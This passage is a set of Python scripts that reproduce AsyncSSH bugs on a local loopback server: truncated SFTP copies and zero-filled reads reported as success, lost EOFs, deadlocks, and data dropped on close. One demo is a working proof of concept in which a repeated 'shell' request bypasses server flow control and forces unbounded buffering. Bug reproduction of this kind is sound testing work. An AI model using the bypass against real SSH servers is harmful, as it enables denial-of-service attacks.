SFTPFailure 'Unexpected EOF during file copy').

Observed: copy() between two files on an AsyncSSH server returns normally
although only 1000 of the announced 300000 bytes arrived at the destination.
The control run in this demo shows get() of the very same file, under the
very same condition, raising the expected error.

Responsible code:
  * asyncssh/sftp.py: _SFTPFileCopier.run() - the branch taken when the
    server offers "copy-data" (srcfs == dstfs and supports_remote_copy) adds
    the *requested* length to _bytes_copied and is outside of the
    "Unexpected EOF during file copy" check, which only exists in the
    else-branch.
  * asyncssh/sftp.py: SFTPServerHandler._process_copy_data() - with an
    explicit read-from-length it leaves the loop on "if not data: break"
    and answers FX_OK even though fewer bytes than asked for were copied
    (OpenSSH's sftp-server answers SSH2_FX_EOF in that case), so the client
    cannot notice either.

The file shrinking between the stat() that announces its size and the reads
is modelled by an SFTPServer subclass that truncates the file when it is
opened for reading (as another process could do at that moment).
"""

import asyncio
import os
import shutil
import sys

import asyncssh

SCRATCH = '/tmp/hunt_S12/scratch_demo_1'
SRC = os.path.join(SCRATCH, 'src')
DST = os.path.join(SCRATCH, 'dst')
LOCAL = os.path.join(SCRATCH, 'local')

ANNOUNCED = 300000
ACTUAL = 1000


class _NoAuthServer(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


class _ShrinkingSourceServer(asyncssh.SFTPServer):
    """The source file is cut short right after its size was reported"""

    def open(self, path, pflags, attrs):
        if path == SRC.encode() and not pflags & asyncssh.FXF_WRITE:
            os.truncate(SRC, ACTUAL)

        return super().open(path, pflags, attrs)


async def run() -> int:
    key = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen('127.0.0.1', 0, server_factory=_NoAuthServer,
                                   server_host_keys=[key],
                                   sftp_factory=_ShrinkingSourceServer)
    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='user', client_keys=None)
    sftp = await conn.start_sftp_client()

    print('server offers copy-data:', sftp.supports_remote_copy)

    # Control: get() notices the early end of the source
    original = os.urandom(ANNOUNCED)

    with open(SRC, 'wb') as f:
        f.write(original)

    try:
        await sftp.get(SRC, LOCAL, sparse=False)
        print('control get(): returned normally, %d bytes' %
              os.path.getsize(LOCAL))
    except asyncssh.SFTPError as exc:
        print('control get(): raised %s: %s' % (type(exc).__name__, exc.reason))

    # Test: copy() under the same condition
    with open(SRC, 'wb') as f:
        f.write(original)

    result = 0

    try:
        await sftp.copy(SRC, DST, sparse=False)
    except asyncssh.SFTPError as exc:
        print('copy(): raised %s: %s' % (type(exc).__name__, exc.reason))
    else:
        dstsize = os.path.getsize(DST)
        print('copy(): returned normally; announced size %d, destination '
              'has %d bytes' % (ANNOUNCED, dstsize))

        if dstsize != ANNOUNCED:
            print('MISBEHAVIOUR: truncated copy reported as success')
            result = 1

    conn.close()
    server.close()
    await conn.wait_closed()

    return result


def main() -> int:
    shutil.rmtree(SCRATCH, ignore_errors=True)
    os.makedirs(SCRATCH)

    try:
        return asyncio.run(asyncio.wait_for(run(), 50))
    finally:
        shutil.rmtree(SCRATCH, ignore_errors=True)


if __name__ == '__main__':
    sys.exit(main())
