"""A read answered with zero bytes of data is neither continued nor reported:
SFTPClientFile.read() and get() return a result with a zero-filled gap

Expected by the property (C12): for every pattern of short reads the
destination gets exactly the source bytes, or the operation raises an error;
success is never reported for a corrupted result. A short answer to a read
request must be followed by a request for the rest (as is done for any
answer of 1..size-1 bytes).

Observed: when the server answers ONE read request in the middle of the file
with an SSH_FXP_DATA message carrying an empty string (the shortest possible
short read) and every other request correctly,
  * SFTPClientFile.read() returns data of the right length in which that
    block consists of zero bytes, and raises nothing;
  * SFTPClient.get() with the default sparse=True writes a file with the same
    zero-filled block and returns normally
    (get(sparse=False) notices the missing bytes: 'Unexpected EOF').

Responsible code: asyncssh/sftp.py: _SFTPParallelIO.iter() - the continuation
test "if count and count < size" treats count == 0 as a completed block
instead of asking again or failing; _SFTPFileReader.run() then pads the gap
with b'\\0'; _SFTPFileCopier.run() has no byte count check when sparse.

The peer is a small hand-written SFTP v3 server run on top of an AsyncSSH
server session.
"""

import asyncio
import os
import shutil
import struct
import sys

import asyncssh

SCRATCH = '/tmp/hunt_S12/scratch_demo_3'

FXP_INIT, FXP_VERSION, FXP_OPEN, FXP_CLOSE, FXP_READ = 1, 2, 3, 4, 5
FXP_LSTAT, FXP_FSTAT, FXP_REALPATH, FXP_STAT = 7, 8, 16, 17
FXP_STATUS, FXP_HANDLE, FXP_DATA, FXP_NAME, FXP_ATTRS = 101, 102, 103, 104, 105

BLOCK = 1000
DATA = bytes((i * 7 + 1) % 255 + 1 for i in range(10 * BLOCK))  # no zero bytes
EMPTY_REPLY_AT = 4 * BLOCK


def u32(v): return struct.pack('>I', v)
def u64(v): return struct.pack('>Q', v)
def sstr(b): return u32(len(b)) + b


class _Peer(asyncssh.SSHServerSession):
    """Hand-written SFTP server serving one file, /src"""

    def __init__(self):
        self._chan = None
        self._buf = b''
        self.empty_replies_left = 0

    def connection_made(self, chan):
        self._chan = chan

    def subsystem_requested(self, subsystem):
        return subsystem == 'sftp'

    def session_started(self):
        self._chan.set_encoding(None)

    def data_received(self, data, datatype):
        self._buf += data

        while len(self._buf) >= 4:
            pktlen = struct.unpack('>I', self._buf[:4])[0]

            if len(self._buf) < 4 + pktlen:
                break

            pkt, self._buf = self._buf[4:4+pktlen], self._buf[4+pktlen:]
            self._handle(pkt)

    def _send(self, pkttype, body):
        pkt = bytes([pkttype]) + body
        self._chan.write(u32(len(pkt)) + pkt)

    def _status(self, rid, code, msg=b''):
        self._send(FXP_STATUS, u32(rid) + u32(code) + sstr(msg) + sstr(b''))

    def _handle(self, pkt):
        pkttype, p = pkt[0], pkt[1:]

        if pkttype == FXP_INIT:
            self._send(FXP_VERSION, u32(3))
            return

        rid = struct.unpack('>I', p[:4])[0]
        p = p[4:]
        slen = struct.unpack('>I', p[:4])[0]
        arg, p = p[4:4+slen], p[4+slen:]

        if pkttype == FXP_OPEN:
            self._send(FXP_HANDLE, u32(rid) + sstr(b'h'))
        elif pkttype == FXP_CLOSE:
            self._status(rid, 0)
        elif pkttype in (FXP_STAT, FXP_LSTAT, FXP_FSTAT):
            self._send(FXP_ATTRS, u32(rid) + u32(0x1 | 0x4) +
                       u64(len(DATA)) + u32(0o100644))
        elif pkttype == FXP_REALPATH:
            self._send(FXP_NAME, u32(rid) + u32(1) + sstr(arg or b'/') +
                       sstr(arg or b'/') + u32(0))
        elif pkttype == FXP_READ:
            offset, length = struct.unpack('>QI', p[:12])
            data = DATA[offset:offset+length]

            if offset == EMPTY_REPLY_AT and self.empty_replies_left:
                self.empty_replies_left -= 1
                data = b''
                self._send(FXP_DATA, u32(rid) + sstr(data))
            elif data:
                self._send(FXP_DATA, u32(rid) + sstr(data))
            else:
                self._status(rid, 1, b'EOF')
        else:
            self._status(rid, 8, b'unsupported')


class _Server(asyncssh.SSHServer):
    peers = []

    def begin_auth(self, username):
        return False

    def session_requested(self):
        peer = _Peer()
        self.peers.append(peer)
        return peer


def describe(got: bytes) -> str:
    if got == DATA:
        return 'identical to the source'

    diff = [i for i in range(min(len(got), len(DATA))) if got[i] != DATA[i]]

    return ('%d bytes (source has %d); %d bytes differ, first at %s; '
            'bytes there: %r' % (len(got), len(DATA), len(diff),
                                 diff[0] if diff else None,
                                 got[diff[0]:diff[0]+4] if diff else b''))


async def run() -> int:
    key = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen('127.0.0.1', 0, server_factory=_Server,
                                   server_host_keys=[key])
    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='user', client_keys=None)
    sftp = await conn.start_sftp_client()
    peer = _Server.peers[-1]

    result = 0

    # File read
    peer.empty_replies_left = 1

    async with sftp.open('/src', 'rb', block_size=BLOCK, max_requests=4) as f:
        try:
            got = await f.read()
        except asyncssh.SFTPError as exc:
            print('read(): raised %r' % exc)
        else:
            print('read(): returned normally:', describe(got))

            if got != DATA:
                result = 1

    # get(), sparse (the default) and not sparse
    for sparse in (True, False):
        peer.empty_replies_left = 1
        path = os.path.join(SCRATCH, 'out')

        try:
            await sftp.get('/src', path, block_size=BLOCK, max_requests=4,
                           sparse=sparse)
        except asyncssh.SFTPError as exc:
            print('get(sparse=%s): raised %s: %s' %
                  (sparse, type(exc).__name__, exc.reason))
        else:
            with open(path, 'rb') as f:
                got = f.read()

            print('get(sparse=%s): returned normally:' % sparse,
                  describe(got))

            if got != DATA:
                result = 1

    if result:
        print('MISBEHAVIOUR: corrupted result reported as success')

    conn.close()
    server.close()
    await conn.wait_closed()

    return result


def main() -> int:
    shutil.rmtree(SCRATCH, ignore_errors=True)
    os.makedirs(SCRATCH)

    try:
        return asyncio.run(asyncio.wait_for(run(), 50))
    finally:
        shutil.rmtree(SCRATCH, ignore_errors=True)


if __name__ == '__main__':
    sys.exit(main())
