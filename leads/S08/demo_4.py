"""C08 demo 4: one TUN/TAP packet larger than the peer's window blocks the
tunnel for good, although the reader keeps reading

Expected (property C08: "for every window/packet size (including ... values
smaller than one write) ... as long as the receiving application keeps
reading, the window is replenished and every written byte is eventually
delivered", and "never deadlocks"): a packet the peer's maximum packet size
allows is either delivered, or refused/dropped so that the application and
later packets aren't affected (OpenSSH drops a datagram which doesn't fit
the window: "datagram too big").

Observed: since commit 661eee6 SSHTunTapChannel._get_send_size() sends a
packet only once all of it fits the send window, and write() only compares
the packet with the peer's maximum packet size.  When the receiver runs the
channel with a window smaller than that (here: window 1000, maximum packet
size left at the default 32768) a 1200 byte packet is accepted by write(),
can never be sent -- the receiver has nothing to read, so its window never
grows beyond 1000 -- and stays at the head of the send buffer, so that every
later packet, however small, is stuck behind it as well.  Nothing is
reported to the writer; drain() returns at once as the buffer is far below
its high-water mark; close() then waits for ever for the buffer to empty.

Responsible code: asyncssh/channel.py: SSHTunTapChannel._get_send_size()
together with SSHChannel._flush_send_buf() (head-of-line wait without any
bound) and SSHTunTapChannel.write() (checks only _send_pktsize).
"""

import asyncio
import sys

import asyncssh

WINDOW = 1000

received = []


async def tun_handler(reader, writer):
    """The receiving application: reads packets as fast as they come"""

    while True:
        packet = await reader.read()

        if not packet:
            break

        received.append(len(packet))


class Server(asyncssh.SSHServer):
    def connection_made(self, conn):
        self._conn = conn

    def begin_auth(self, username):
        return False

    def tun_requested(self, unit):
        chan = self._conn.create_tuntap_channel(window=WINDOW)
        return chan, tun_handler


def ip_packet(size):
    return b'\x45' + bytes(size - 1)


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                   server_factory=Server)
    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u')

    reader, writer = await conn.open_tun()

    writer.write(ip_packet(100))        # fits
    await asyncio.sleep(0.5)
    print('packets received so far:', received)

    writer.write(ip_packet(1200))       # allowed by max packet size 32768
    await writer.drain()

    for _ in range(5):
        writer.write(ip_packet(100))    # these would fit, but never get out
        await writer.drain()

    await asyncio.sleep(3)

    chan = writer.channel

    print('packets received after 3 more seconds:', received)
    print('still unsent: %d bytes, peer window %d, peer max packet size %d' %
          (chan.get_write_buffer_size(), chan._send_window,
           chan._send_pktsize))

    writer.close()

    try:
        await asyncio.wait_for(writer.wait_closed(), 5)
        closed = True
    except asyncio.TimeoutError:
        closed = False

    print('close() of the channel completed:', closed)

    conn.abort()
    server.close()

    return 0 if received == [100, 1200, 100, 100, 100, 100, 100] or \
        (received == [100] * 6 and closed) else 1


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
