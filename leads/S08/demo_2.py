"""C08 demo 2: a repeated "shell" request switches the server's receive flow
control off for the rest of the channel

Expected (property C08): while the receiving application does not read, the
receiver buffers about one window of data, stops sending WINDOW_ADJUST, and a
writer on the other side is held back ("also while the application has
reading paused").  Nothing the peer sends may un-pause the reader on the
application's behalf.

Observed: SSHChannel._report_response() calls self.resume_reading() for every
successful shell/exec/subsystem request, and SSHServerChannel._start_session()
accepts such a request any number of times.  A client which sends a second
"shell" request on an open session therefore forces the channel out of the
pause the stream layer (or an SSHServerSession calling pause_reading()) had
asked for.  The stream session still believes reading is paused
(_read_paused is True), so _maybe_pause_reading() never pauses the channel
again: from now on every byte is delivered at once, the window is reopened
at once, and the server buffers without any bound for an application which
is not reading at all.  (The server's handler is also started a second time.)

Below the server handler never reads its stdin.  With a 64 KiB window a
well-behaved server would take at most 128 KiB or so; the client manages to
push 16 MiB through, honouring every window it is given.

Responsible code: asyncssh/channel.py: SSHChannel._report_response()
(unconditional resume_reading()) and SSHServerChannel._start_session() /
_process_shell_request() (no check that the session was already started);
asyncssh/stream.py: SSHStreamSession._maybe_pause_reading() never re-pauses
because _read_paused is still set.

The peer is hand-written only as far as it issues the extra request: it
uses asyncssh's client for the transport and sends one more "shell" request.
"""

import asyncio
import sys

import asyncssh

WINDOW = 65536
TOTAL = 16 * 1024 * 1024

handler_starts = 0
server_sessions = []


async def handle(process):
    """A server application which is busy and doesn't read its input"""

    global handler_starts
    handler_starts += 1
    server_sessions.append(process)

    await asyncio.sleep(3600)


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def push(writer, total):
    chunk = b'x' * 32768
    sent = 0

    while sent < total:
        writer.write(chunk)
        await writer.drain()
        sent += len(chunk)

    return sent


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                   server_factory=Server,
                                   process_factory=handle, encoding=None,
                                   window=WINDOW)
    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u')

    writer, _, _ = await conn.open_session(encoding=None)
    chan = writer.channel
    chan.set_write_buffer_limits(high=32768)

    # Phase 1: plain behaviour -- the writer must get stuck
    task = asyncio.ensure_future(push(writer, TOTAL))
    await asyncio.sleep(2)

    srv = server_sessions[0]
    print('before the extra request: server buffers %d bytes in the stream '
          'and %d in the channel, writer finished: %s' %
          (srv._recv_buf_len, srv.channel._recv_buf_len, task.done()))

    # Phase 2: the peer asks for a shell once more
    chan._send_request(b'shell', want_reply=False)

    try:
        sent = await asyncio.wait_for(task, 30)
    except asyncio.TimeoutError:
        task.cancel()
        sent = None

    await asyncio.sleep(0.5)

    buffered = srv._recv_buf_len + srv.channel._recv_buf_len

    print('after the extra request: writer %s, server buffers %d bytes for '
          'an application which never read, handler started %d time(s)' %
          ('delivered all %d bytes' % sent if sent else 'is still held back',
           buffered, handler_starts))

    conn.abort()
    server.close()

    if buffered > 4 * WINDOW:
        print('FLOW CONTROL BYPASSED: %d bytes accepted with a %d byte '
              'window while the application had reading paused' %
              (buffered, WINDOW))
        return 1
    else:
        return 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
