"""C08 demo 3: pause_reading() called while a server session starts up is
silently undone, so data is delivered (and window given back) while the
application has reading paused

Expected (property C08, "every pause/resume schedule of the reader", and the
documentation of SSHChannel.pause_reading(): "After this call, incoming data
will no longer be delivered until resume_reading() is called"): a session
which pauses reading in connection_made() or session_started() -- for
instance because it first has to set something up asynchronously -- gets no
data_received() call until it calls resume_reading(); what the peer sends
meanwhile is buffered up to one window and then the peer is held back.  This
is what happens on the side which opened the channel: SSHChannel.
_start_reading() only starts delivery "if owner of the channel didn't
explicitly pause it at startup".

Observed: on the side which accepted the channel the pause is thrown away.
SSHChannel._report_response() (session channels) and SSHForwardChannel.
_finish_open_request() (direct-tcpip etc.) call session_started() and then
resume_reading() without looking whether the session has just paused.  All
data is delivered at once to a session which believes it is paused, and the
window is replenished for it, so the peer can stream any amount of data into
an application that has asked not to get any yet.

The client below is an ordinary asyncssh client doing nothing unusual.

Responsible code: asyncssh/channel.py: SSHChannel._report_response() and
SSHForwardChannel._finish_open_request() (unconditional resume_reading();
compare SSHChannel._start_reading()).
"""

import asyncio
import sys

import asyncssh

WINDOW = 4096
TOTAL = 1024 * 1024

problems = []


class PausingSession(asyncssh.SSHServerSession):
    """Pause at startup, resume only once some setup has been done"""

    def __init__(self):
        self.paused = False
        self.got_while_paused = 0
        self.got = 0

    def connection_made(self, chan):
        self.chan = chan

    def shell_requested(self):
        return True

    def session_started(self):
        self.chan.pause_reading()
        self.paused = True
        asyncio.ensure_future(self.setup())

    async def setup(self):
        await asyncio.sleep(5)          # e.g. start a helper process
        self.paused = False
        self.chan.resume_reading()

    def data_received(self, data, datatype):
        self.got += len(data)

        if self.paused:
            self.got_while_paused += len(data)

    def eof_received(self):
        self.chan.exit(0)
        return False


sessions = []


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False

    def session_requested(self):
        session = PausingSession()
        sessions.append(session)
        return session


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                   server_factory=Server, encoding=None,
                                   window=WINDOW, line_editor=False)
    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u')

    writer, _, _ = await conn.open_session(encoding=None)

    async def push():
        sent = 0
        chunk = b'x' * 4096

        while sent < TOTAL:
            writer.write(chunk)
            await writer.drain()
            sent += len(chunk)

        return sent

    task = asyncio.ensure_future(push())

    # The server session stays "paused" for 5 seconds. Look after 2.
    await asyncio.sleep(2)

    session = sessions[0]

    print('2 s after start, server session still has reading paused: %s' %
          session.paused)
    print('bytes delivered to data_received() while paused: %d '
          '(receive window is %d)' % (session.got_while_paused, WINDOW))
    print('client writer finished pushing %d bytes: %s' % (TOTAL, task.done()))

    task.cancel()
    conn.abort()
    server.close()

    return 1 if session.got_while_paused else 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
