"""C08 demo 5: a replaced redirect target cancels the back-pressure of its
successor, after which the receiver buffers without bound

Expected (property C08): a receiver whose consumer is slow stops reading from
the channel, buffers about one window and lets the window run out, so that the
writer on the other side is held back.  For a process whose stdout is
redirected to a slow (async) file this is what pause_feeding()/
resume_feeding() are for: the target's queue is kept between 8 and 16 blocks.

Observed: when the redirect is changed to another target while the first one
has feeding paused, SSHProcess.clear_writer() resumes feeding and the new
target soon pauses it again for itself.  The old target's writer task is still
draining its queue, and when it gets below the low-water mark it calls
resume_feeding() for the datatype as well (_AsyncFileWriter._writer() /
_StreamWriter._feed(): "if self._paused and ...").  That removes the pause
which now belongs to the new target.  The new target still has _paused set,
so it doesn't ask again, the channel is read at full speed, WINDOW_ADJUSTs
keep flowing, and everything the peer can produce piles up in the new target's
queue.

Responsible code: asyncssh/process.py: _AsyncFileWriter._writer() and
_StreamWriter._feed() (resume on behalf of a writer which is no longer the
target) with SSHProcess.resume_feeding()/_paused_write_streams keyed by
datatype only.
"""

import asyncio
import sys

import asyncssh

WINDOW = 65536
TOTAL = 32 * 1024 * 1024


class SlowFile:
    """An async file object which takes 50 ms per write"""

    def __init__(self):
        self.written = 0

    async def read(self, n=-1):
        return b''

    async def write(self, data):
        await asyncio.sleep(0.05)
        self.written += len(data)

    async def close(self):
        pass


async def handle(process):
    """Produce output as fast as flow control allows"""

    try:
        chunk = b'x' * 32768
        sent = 0

        while sent < TOTAL:
            process.stdout.write(chunk)
            await process.stdout.drain()
            sent += len(chunk)

        process.exit(0)
    except (OSError, asyncssh.Error):
        pass


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                   server_factory=Server,
                                   process_factory=handle, encoding=None)
    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u')

    first = SlowFile()
    second = SlowFile()

    process = await conn.create_process('x', encoding=None, window=WINDOW,
                                        stdout=first)

    await asyncio.sleep(1)

    # Change the redirect at a moment when the first target has paused
    # feeding and still has a good part of its queue to write
    writer1 = process._writers[None]

    while not (writer1._paused and writer1._queue.qsize() >= 12):
        await asyncio.sleep(0.01)

    print('first target: %d blocks queued, feeding paused: %s' %
          (writer1._queue.qsize(), None in process._paused_write_streams))

    await process.redirect_stdout(second)
    writer2 = process._writers[None]

    await asyncio.sleep(0.3)
    print('second target: %d blocks queued, feeding paused: %s' %
          (writer2._queue.qsize(), None in process._paused_write_streams))

    await asyncio.sleep(3)

    queued = writer2._queue.qsize()
    queued_bytes = sum(len(item) for item in writer2._queue._queue if item)

    print('3 s later the second target has %d blocks (%d bytes) queued, '
          'feeding paused: %s, window is %d' %
          (queued, queued_bytes, None in process._paused_write_streams,
           WINDOW))

    conn.abort()
    server.close()

    return 1 if queued > 64 else 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
