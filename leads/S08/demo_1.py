"""C08 demo 1: a redirect to a pipe whose reader goes away pauses the channel for good

Expected (property C08, "never deadlocks"; and the behaviour the library
already gives to the sibling redirect targets, see commit 2cc557a "don't hang
... when the target of an output redirect fails"): when the target a client
process' stdout is redirected to can no longer be written, what is left for it
is discarded, the channel keeps taking data, the remote side can finish and
close, and SSHClientProcess.wait() returns.

Observed: with stdout redirected to a pipe (file descriptor), once the pipe is
full the pipe transport calls _PipeWriter.pause_writing(), which makes the
process pause reading from the channel (pause_feeding). If the reading end of
the pipe is now closed, asyncio reports connection_lost() to _PipeWriter but
never calls resume_writing(); _PipeWriter.connection_lost() only sets an event.
The datatype stays in SSHProcess._paused_write_streams for ever, so
_should_pause_reading() is true for ever, the channel never delivers again, no
WINDOW_ADJUST is ever sent again, and the server (a perfectly behaved peer which
still has data to write and then wants to exit) waits for window for ever.
process.wait() on the client and the server's handler both hang.

Responsible code: asyncssh/process.py: _PipeWriter.connection_lost() (does
not give back the pause it took with pause_feeding()), together with
SSHProcess._should_pause_reading().
"""

import asyncio
import logging
import os
import sys

import asyncssh

TOTAL = 4 * 1024 * 1024
server_done = asyncio.Event()


async def handle(process):
    # A well behaved server application: write, honour flow control, exit
    try:
        chunk = b'x' * 65536
        sent = 0

        while sent < TOTAL:
            process.stdout.write(chunk)
            await process.stdout.drain()
            sent += len(chunk)

        process.exit(0)
    except (OSError, asyncssh.Error) as exc:
        print('server handler ended with', repr(exc))
    finally:
        server_done.set()


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False


async def main():
    logging.getLogger('asyncio').setLevel(logging.CRITICAL)

    key = asyncssh.generate_private_key('ssh-ed25519')

    server = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                   server_factory=Server,
                                   process_factory=handle, encoding=None)
    port = server.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='u')

    rfd, wfd = os.pipe()

    process = await conn.create_process('x', encoding=None,
                                        stdout=os.fdopen(wfd, 'wb',
                                                         buffering=0))

    # Let the pipe fill up, so that writing to it gets paused
    await asyncio.sleep(1)

    paused = set(process._paused_write_streams)
    print('streams with feeding paused while the pipe is full:', paused)

    # The consumer of the pipe goes away
    os.close(rfd)

    try:
        result = await asyncio.wait_for(process.wait(), 20)
    except asyncio.TimeoutError:
        print('process.wait() still hanging 20 s after the pipe reader '
              'went away')
        print('  feeding still paused for:', process._paused_write_streams)
        print('  server handler finished:', server_done.is_set())
        hung = True
    else:
        print('process.wait() returned, exit status', result.exit_status)
        hung = False

    conn.abort()
    server.close()

    return 1 if hung else 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
