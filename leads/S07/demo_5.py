"""C07 demo 5: data written (and drained) before a clean connection close is
thrown away when it hasn't left the socket transport yet.

Expected (property C07): the receiver sees exactly the bytes the sender
wrote, followed by EOF.  The sender below writes 30 MB, calls write_eof(),
waits in drain() and then closes the connection with SSHConnection.close()
("Cleanly close the SSH connection"), which calls disconnect(), documented
as: "sends a disconnect message and closes the SSH connection after buffered
data waiting to be written has been sent".  The receiver had opened the
channel with a 64 MB window, so all of the data was accepted by the channel
at once and drain() returned at once: the sending application has no way to
tell that the data is still sitting in the transport's write buffer.

Observed: the receiver gets only the first few MB (whatever fitted into the
socket buffers) and then ConnectionLost instead of the rest, EOF and the
disconnect message.

Responsible code: asyncssh/connection.py, SSHConnection._force_close(),
reached from disconnect():

    self._loop.call_soon(self._transport.abort)

abort() discards the transport's write buffer, i.e. the tail of the channel
data, the EOF, the channel close and the disconnect message itself.  Repair
ec28761 ("send data held back by a key re-exchange before disconnecting")
made disconnect() wait for channel data parked in _deferred_packets for
exactly this reason; data parked one layer further down has the same fate.
With the default 2 MB window the same happens on any path whose socket send
buffer is smaller than the window (i.e. most WAN connections); the large
window here merely makes it reproducible on loopback.

Exit status 1 = misbehaviour shown, 0 = behaves as the property demands.
"""

import asyncio
import sys

import asyncssh

SIZE = 30_000_000


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False            # no authentication needed


async def server_process(process):
    """Sender: write, EOF, drain, clean connection close"""

    await asyncio.sleep(0.2)

    process.stdout.write(b'x' * SIZE)
    process.stdout.write_eof()
    await process.stdout.drain()

    process.channel.get_connection().close()


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')
    listener = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                     server_factory=Server,
                                     process_factory=server_process,
                                     encoding=None)
    port = listener.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='user')
    process = await conn.create_process('command', encoding=None,
                                        window=64*1024*1024)

    received = 0
    error = None

    try:
        while True:
            data = await asyncio.wait_for(process.stdout.read(1 << 20), 30)

            if not data:
                break

            received += len(data)
    except Exception as exc: # pylint: disable=broad-except
        error = exc

    conn.close()
    listener.close()

    print(f'sender wrote {SIZE} bytes + EOF, drained, closed the connection')
    print(f'receiver got {received} bytes, then '
          f'{"EOF" if error is None else repr(error)}')

    if received != SIZE or error is not None:
        print('MISBEHAVIOUR: data written before a clean close was discarded')
        return 1

    print('OK: everything written before the close arrived')
    return 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
