"""C07 demo 1: a peer's EOF which is waiting behind parked data is never
reported when the connection goes away.

Expected (property C07): the receiving application sees the bytes the sender
wrote "followed by end-of-file if and only if the sender signalled it".  The
sender here writes 1000 characters, calls write_eof() and only then (0.3s
later, i.e. long after data and EOF reached the receiver) closes the
connection cleanly.

Observed: the receiving session had paused reading, so data and EOF were
parked in the channel (recv_state 'eof_pending', turned into 'close_pending'
with _recv_eof_on_close set by the channel close which conn.close() sends
ahead of the disconnect).  When the connection close arrives the channel
hands the parked data to the session (repair e69e278),
but then goes straight to connection_lost(None): eof_received() is never
called, and the check for an incomplete character at the end of the stream
is skipped as well.  A callback session so cannot tell "complete output, EOF
seen" from "output cut off by connection loss".

Responsible code: asyncssh/channel.py, SSHChannel.process_connection_close():
after draining self._recv_buf it calls self._cleanup(exc) without looking at
self._recv_state == 'eof_pending' (or 'close_pending' with
self._recv_eof_on_close), which is what _flush_recv_buf() does after the same
drain (repair b12a165 covered only the channel close path).

Exit status 1 = misbehaviour shown, 0 = behaves as the property demands.
"""

import asyncio
import sys

import asyncssh


class Server(asyncssh.SSHServer):
    def begin_auth(self, username):
        return False            # no authentication needed


async def server_handler(process):
    """Sender: data, EOF, and - much later - a clean connection close"""

    process.stdout.write('x' * 1000)
    process.stdout.write_eof()
    await asyncio.sleep(0.3)
    process.channel.get_connection().close()


class ClientSession(asyncssh.SSHClientSession):
    """Receiver: a callback session which paused reading"""

    def __init__(self):
        self.events = []

    def connection_made(self, chan):
        self._chan = chan

    def session_started(self):
        self._chan.pause_reading()

    def data_received(self, data, datatype):
        self.events.append(('data', len(data)))

    def eof_received(self):
        self.events.append(('eof',))
        return False

    def connection_lost(self, exc):
        self.events.append(('connection_lost', exc))


async def main():
    key = asyncssh.generate_private_key('ssh-ed25519')
    listener = await asyncssh.listen('127.0.0.1', 0, server_host_keys=[key],
                                     server_factory=Server,
                                     process_factory=server_handler)
    port = listener.sockets[0].getsockname()[1]

    conn = await asyncssh.connect('127.0.0.1', port, known_hosts=None,
                                  username='user')
    chan, session = await conn.create_session(ClientSession, 'command')

    await asyncio.wait_for(conn.wait_closed(), 10)
    await asyncio.sleep(0.1)
    listener.close()

    print('sender: write(1000 chars), write_eof(), 0.3s later conn.close()')
    print('receiver events:', session.events)

    kinds = [event[0] for event in session.events]
    received = sum(event[1] for event in session.events if event[0] == 'data')

    if received != 1000:
        print('UNEXPECTED: data was not delivered at all; demo inconclusive')
        return 2

    if 'eof' not in kinds:
        print('MISBEHAVIOUR: all data was delivered but eof_received() was '
              'never called although the sender had signalled EOF')
        return 1

    if kinds.index('eof') < kinds.index('data'):
        print('MISBEHAVIOUR: EOF reported ahead of data')
        return 1

    print('OK: data followed by EOF')
    return 0


if __name__ == '__main__':
    sys.exit(asyncio.run(main()))
