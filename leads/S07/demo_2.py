"""C07 demo 2: EOF of a command without output is lost when EOF and close
arrive before the client channel has started reading.

Expected (property C07): the receiver sees the bytes the sender wrote (here:
none) "followed by end-of-file if and only if the sender signalled it".  The
server session below answers the exec request and at once calls write_eof()
and exit(0), i.e. SUCCESS, EOF, exit-status and CLOSE go out back to back,
which is what any fast command without output looks like on the wire.

Observed: eof_received() is never called on the client session; it goes from
session_started() straight to connection_lost(None).  The control case, which
differs only in that three characters are written ahead of the EOF, does get
data_received() and eof_received().

Responsible code: asyncssh/channel.py, SSHChannel._flush_recv_buf().  While
the client channel is still in its 'starting' pause (between the reply to the
exec request and the _start_reading() task) the block which reports EOF is
skipped on purpose (`self._recv_paused != 'starting'`), but the last block

    if not self._recv_buf and self._recv_state == 'close_pending':
        self._recv_state = 'closed'
        self._loop.call_soon(self._cleanup, exc)

is not.  With an empty receive buffer the peer's CLOSE therefore tears the
